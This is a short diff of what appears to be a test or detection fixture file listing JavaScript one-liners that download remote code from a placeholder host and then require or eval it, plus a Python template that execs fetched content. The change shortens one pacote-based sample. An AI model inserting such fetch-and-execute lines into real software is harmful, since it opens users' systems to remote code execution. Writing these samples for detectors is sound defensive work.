@@ -9,8 +9,7 @@ FETCHED = "import {library}\nexec(open({library}.{call}).read())\n"
 SCRIPTS = [
     "require('download')('https://a.example.invalid/x.js', __dirname).then(() => require('./x.js'))",
     "require('degit')('a/b').clone(__dirname + '/x').then(() => require('./x'))",
-    "const dir = __dirname + '/x';"
-    + "require('pacote').extract('https://a.example.invalid/x.tgz', dir).then(() => require(dir + '/main'))",
+    "const d = __dirname + '/x'; require('pacote').extract('a@1', d).then(() => require(d + '/main'))",
     "require('download')('https://a.example.invalid/x.js').then(text => eval(text))",
 ]
 PLAIN = [
